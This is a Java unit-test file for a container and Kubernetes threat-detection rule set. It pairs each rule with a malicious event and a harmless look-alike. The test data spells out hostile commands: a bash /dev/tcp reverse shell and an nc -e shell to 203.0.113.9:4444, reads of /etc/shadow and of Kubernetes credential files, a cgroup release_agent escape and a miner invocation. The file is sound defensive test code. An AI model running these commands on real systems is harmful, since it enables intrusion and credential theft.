package dev.breakwater.detection.node;

import static dev.breakwater.detection.node.TestEvent.READ;
import static dev.breakwater.detection.node.TestEvent.WRITE;
import static dev.breakwater.detection.node.TestEvent.connect;
import static dev.breakwater.detection.node.TestEvent.connectUnix;
import static dev.breakwater.detection.node.TestEvent.exec;
import static dev.breakwater.detection.node.TestEvent.open;
import static dev.breakwater.detection.node.TestProcess.contained;
import static dev.breakwater.detection.node.TestProcess.host;
import static org.assertj.core.api.Assertions.assertThat;

import dev.breakwater.detection.CatalogEntry;
import dev.breakwater.detection.Rules;
import dev.breakwater.signals.Finding;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Each rule for nodes, with an act that it finds and one that is like it but harmless. */
class NodeRulesTest {
  private static final TestProcess SHELL = contained("/bin/bash", "-c", "id");
  private static final TestProcess RUNC = host("/usr/sbin/runc", "init");

  record Example(String type, NodeEvent act, NodeEvent harmless) {
    @Override
    public String toString() {
      return type;
    }
  }

  static Stream<Example> examples() {
    return Stream.of(
        new Example(
            "node.interactive_shell_in_container",
            exec(contained("/bin/bash").withTerminal()),
            exec(host("/bin/bash").withTerminal())),
        new Example("node.shell_in_container", exec(SHELL), exec(host("/bin/sh", "-c", "id"))),
        new Example(
            "node.shell_in_container",
            exec(contained("/tmp/.x/bash")),
            exec(contained("/bin/cat"))),
        new Example(
            "node.reverse_shell",
            exec(host("/bin/sh", "-i").onSocket()),
            exec(host("/bin/sh", "-i"))),
        new Example(
            "node.reverse_shell",
            exec(contained("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")),
            exec(contained("/usr/bin/nc", "-z", "db", "5432"))),
        new Example(
            "node.reverse_shell",
            exec(contained("/usr/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh")),
            exec(host("/usr/sbin/sshd", "-D").onSocket())),
        new Example(
            "node.sensitive_file_read_in_container",
            open(contained("/bin/cat"), "/etc/shadow", READ),
            open(contained("/bin/cat"), "/etc/passwd", READ)),
        new Example(
            "node.sensitive_file_read_in_container",
            open(contained("/bin/cat"), "/proc/1/root/etc/shadow", READ),
            open(contained("/bin/cat"), "/etc/shadow", READ).returning(-13)),
        new Example(
            "node.sensitive_file_read_in_container",
            open(contained("/usr/bin/su").inUpperLayer(), "/etc/shadow", READ),
            open(contained("/usr/bin/su"), "/etc/shadow", READ)),
        new Example(
            "node.sensitive_file_read_in_container",
            open(contained("/usr/bin/cat").named("passwd"), "/etc/shadow", READ),
            open(
                contained("/bin/busybox").named("passwd").calledAs("passwd"), "/etc/shadow", READ)),
        new Example(
            "node.sensitive_file_read_in_container",
            open(contained("/usr/bin/cat"), "/host-etc/shadow", READ),
            open(contained("/usr/bin/cat"), "/src/shadow.c", READ)),
        new Example(
            "node.sensitive_file_read_on_node",
            open(host("/usr/bin/cat").named("sshd"), "/etc/shadow", READ),
            open(host("/usr/lib/openssh/sshd-session").named("sshd-session"), "/etc/shadow", READ)),
        new Example(
            "node.sensitive_file_read_on_node",
            open(host("/bin/cat"), "/etc/shadow", READ),
            open(host("/usr/sbin/sshd"), "/etc/shadow", READ)),
        new Example(
            "node.sensitive_file_read_on_node",
            open(host("/tmp/sudo"), "/etc/sudoers", READ),
            open(host("/usr/bin/sudo"), "/etc/sudoers", READ)),
        new Example(
            "node.sensitive_file_read_on_node",
            open(host("/usr/bin/python3"), "/etc/sudoers.d/90-cloud", READ),
            open(
                host("/usr/bin/perl").childOf(host("/usr/bin/dpkg", "--configure")),
                "/etc/shadow",
                READ)),
        new Example(
            "node.kubernetes_credentials_read",
            open(host("/bin/cat"), "/etc/kubernetes/admin.conf", READ),
            open(host("/usr/bin/kubelet"), "/etc/kubernetes/kubelet.conf", READ)),
        new Example(
            "node.service_account_token_read",
            open(
                contained("/bin/cat"), "/var/run/secrets/kubernetes.io/serviceaccount/token", READ),
            open(
                contained("/app/server"),
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                READ)),
        new Example(
            "node.drift",
            exec(contained("/tmp/tool").inUpperLayer()),
            exec(contained("/usr/bin/tool"))),
        new Example(
            "node.drift",
            exec(contained("/data/tool").changedSinceContainerStart(5)),
            exec(contained("/data/tool").changedSinceContainerStart(-5))),
        new Example(
            "node.fileless_execution",
            exec(host("/memfd:x").inMemory()),
            exec(host("/memfd:runc_cloned:/proc/self/exe").inMemory().childOf(RUNC))),
        new Example(
            "node.miner",
            exec(contained("/tmp/x", "-o", "stratum+tcp://pool.example:4444")),
            exec(host("/bin/grep", "stratum+tcp://"))),
        new Example("node.miner", exec(host("/opt/xmrig")), exec(host("/opt/mxrig"))),
        new Example(
            "node.package_manager_in_container",
            exec(contained("/usr/bin/apt-get", "install", "nmap")),
            exec(host("/usr/bin/apt-get", "install", "nmap"))),
        new Example(
            "node.package_manager_in_container",
            exec(contained("/usr/bin/pip3", "install", "x")),
            exec(contained("/usr/bin/pip3", "--version"))),
        new Example(
            "node.scanner", exec(contained("/usr/bin/nmap", "-sS")), exec(host("/usr/bin/nmap"))),
        new Example(
            "node.kubernetes_client_in_container",
            exec(contained("/usr/bin/kubectl", "get", "secrets")),
            exec(host("/usr/bin/kubectl", "get", "secrets"))),
        new Example(
            "node.namespace_entered",
            exec(contained("/usr/bin/nsenter", "-t", "1")),
            exec(host("/usr/bin/nsenter", "-t", "1"))),
        new Example(
            "node.program_directory_written",
            open(contained("/bin/cp"), "/usr/bin/ls", WRITE),
            open(contained("/bin/cp"), "/usr/bin/ls", READ)),
        new Example(
            "node.program_directory_written",
            open(host("/bin/cp"), "/etc/systemd/system/x.service", WRITE),
            open(host("/usr/bin/dpkg"), "/usr/bin/ls.dpkg-new", WRITE)),
        new Example(
            "node.preload",
            open(contained("/bin/sh"), "/etc/ld.so.preload", WRITE),
            open(contained("/bin/sh"), "/etc/ld.so.preload", READ)),
        new Example(
            "node.escape_by_kernel_file",
            open(contained("/bin/sh"), "/tmp/cgrp/release_agent", WRITE),
            open(host("/bin/sh"), "/tmp/cgrp/release_agent", WRITE)),
        new Example(
            "node.history_cleared",
            open(host("/usr/bin/truncate"), "/root/.bash_history", WRITE),
            open(host("/bin/bash"), "/root/.bash_history", WRITE)),
        new Example(
            "node.cloud_metadata",
            connect(contained("/usr/bin/curl"), "169.254.169.254", 80),
            connect(host("/usr/bin/curl"), "169.254.169.254", 80)),
        new Example(
            "node.cloud_metadata",
            connect(contained("/usr/bin/curl"), "fd00:ec2::254", 80).returning(-115),
            connect(contained("/usr/bin/curl"), "169.254.20.10", 53)),
        new Example(
            "node.runtime_socket",
            connectUnix(contained("/usr/bin/curl"), "/var/run/docker.sock"),
            connectUnix(contained("/usr/bin/curl"), "/var/run/mysqld.sock")));
  }

  @ParameterizedTest
  @MethodSource("examples")
  void findsTheAct(Example example) {
    assertThat(Rules.find(example.act())).extracting(Finding::type).contains(example.type());
  }

  @ParameterizedTest
  @MethodSource("examples")
  void isSilentOnWhatIsHarmless(Example example) {
    assertThat(Rules.find(example.harmless()))
        .extracting(Finding::type)
        .doesNotContain(example.type());
  }

  @Test
  void everyRuleForNodesHasAnExample() {
    List<String> shown =
        Stream.concat(
                examples().map(Example::type),
                KernelRulesTest.examples().map(example -> "node." + example.get()[0]))
            .toList();

    assertThat(Rules.catalog().entries())
        .extracting(CatalogEntry::id)
        .filteredOn(id -> id.startsWith("node."))
        .isSubsetOf(shown);
  }

  @Test
  void aFindingTellsWhatHappenedAndWhere() {
    NodeEvent event =
        open(
            contained("/bin/cat", "/etc/shadow").childOf(SHELL.childOf(host("/usr/bin/shim"))),
            "/etc/shadow",
            READ);

    Finding finding =
        Rules.find(event).stream()
            .filter(f -> f.type().equals("node.sensitive_file_read_in_container"))
            .findFirst()
            .orElseThrow();

    assertThat(finding.message())
        .isEqualTo(
            "/etc/shadow was read in the container 0123456789ab by cat /etc/shadow (parent bash -c"
                + " id, user 0 root, path /bin/cat, pod shop/web-1)");
    assertThat(finding.techniques()).containsExactly("T1003.008");
    assertThat(finding.outputFields())
        .containsEntry("fd.name", "/etc/shadow")
        .containsEntry("k8s.pod.name", "web-1");
    assertThat(finding.evidence()).isEqualTo(event.activity());
  }

  @Test
  void anOrdinaryHostIsQuiet() {
    TestProcess systemd = host("/usr/lib/systemd/systemd");
    TestProcess sshd = host("/usr/sbin/sshd", "-D").childOf(systemd);
    TestProcess shell = host("/bin/bash").withTerminal().childOf(sshd);
    TestProcess apt = host("/usr/bin/apt-get", "install", "vim").childOf(shell);
    TestProcess dpkg = host("/usr/bin/dpkg", "--unpack").childOf(apt);
    TestProcess postinst = host("/bin/sh", "/var/lib/dpkg/info/x.postinst").childOf(dpkg);

    assertThat(
            Stream.of(
                exec(shell),
                open(sshd, "/etc/shadow", READ),
                open(host("/usr/sbin/unix_chkpwd").childOf(sshd), "/etc/shadow", READ),
                open(host("/usr/bin/sudo").childOf(shell), "/etc/sudoers", READ),
                open(host("/usr/bin/sudo").childOf(shell), "/etc/sudoers.d/README", READ),
                open(host("/usr/sbin/cron").childOf(systemd), "/etc/shadow", READ),
                open(host("/usr/bin/passwd").childOf(shell), "/etc/shadow", READ),
                open(host("/usr/lib/systemd/systemd-executor"), "/etc/shadow", READ),
                open(dpkg, "/usr/bin/vim.dpkg-new", WRITE),
                open(host("/usr/sbin/useradd").childOf(postinst), "/etc/shadow", READ),
                open(host("/bin/cp").childOf(postinst), "/usr/bin/vim", WRITE),
                exec(postinst),
                connect(host("/usr/bin/curl").childOf(shell), "169.254.169.254", 80),
                open(shell, "/root/.bash_history", WRITE)))
        .flatExtracting(Rules::find)
        .extracting(Finding::message)
        .isEmpty();
  }
}
